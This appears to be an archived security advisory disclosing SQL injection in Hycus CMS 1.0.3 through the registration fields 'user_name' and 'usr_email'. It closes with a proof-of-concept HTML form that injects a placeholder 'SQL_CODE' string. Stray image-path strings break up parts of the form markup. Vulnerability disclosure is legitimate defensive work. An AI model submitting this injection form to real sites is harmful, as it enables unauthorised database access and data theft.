[Date Prev][Date Next][Thread Prev][Thread Next][Date Index][Thread Index]

SQL injection in Hycus CMS

Vulnerability ID: HTB22738
Reference: http://www.htbridge.ch/advisory/sql_injection_in_hycus_cms.html
Product: Hycus CMS
Vendor: Hycus Web Development Team ( http://www.hycus.com/ )
Vulnerable Version: 1.0.3
Vendor Notification: 07 December 2010
Vulnerability Type: SQL injection
Status: Not Fixed, Vendor Alerted, Awaiting Vendor Response
Risk level: High
Credit: High-Tech Bridge SA - Ethical Hacking & Penetration Testing (http://www.htbridge.ch/)

Vulnerability Details:
The vulnerability exists due to failure in the "/index.php" script to properly sanitize user-supplied input in "user_name" and "usr_email" variables.
Attacker can alter queries to the application SQL database, execute arbitrary queries to the database, compromise the application, access or modify sensitive data, or exploit various vulnerabilities in the underlying SQL database.

The following PoC is available:

<formaction="http://[host]/?user/1/hregister.html"; method="post" name="main" >
<input type="hidden" name="full_name" value="username"/>
<inputtype="hidden" name="user_name" value="1'SQL_CODE"/>
<input type="hidden" name="usr_email"value="test@xxxxxxxx'SQL_CODE"/><input type="hidden" name="pwd" value="123456"/><input type="hidden"name="pwd2" value="123456"/>
<inputtype="submit" value="submit" name="submit" />